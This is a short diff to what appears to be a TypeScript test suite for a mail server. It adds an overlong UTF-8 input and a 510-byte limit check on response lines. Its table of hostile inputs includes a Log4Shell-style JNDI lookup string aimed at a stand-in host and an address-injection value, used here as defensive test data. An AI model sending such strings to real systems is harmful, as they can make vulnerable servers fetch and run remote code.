@@ -24,6 +24,7 @@ const HOSTILE = {
   'an address of its own': 'a> X=<victim@example.org',
   'orders for a log': '%s%n$' + '{jndi:ldap://forged.example/x}',
   'no end': 'x'.repeat(3_000),
+  'no end, in UTF-8': 'ü'.repeat(1_001),
   'half a character': 'a\ud800b',
 } as const
 
@@ -125,7 +126,10 @@ async function world(hostName: string): Promise<Witness> {
       for (const { said } of clients) {
         const lines = Buffer.from(said, 'latin1').toString().split('\r\n')
         expect(lines.pop()).toBe('')
-        for (const line of lines) expect(line).toMatch(/^\d{3}[ -][^\x00-\x1f\x7f-\x9f\u2028\u2029]*$/)
+        for (const line of lines) {
+          expect(line).toMatch(/^\d{3}[ -][^\x00-\x1f\x7f-\x9f\u2028\u2029]*$/)
+          expect(Buffer.byteLength(line)).toBeLessThanOrEqual(510)
+        }
         expect(said).not.toMatch(/^250 2\.0\.0 forged/m)
       }
       for (const { message } of transport.jobs) {
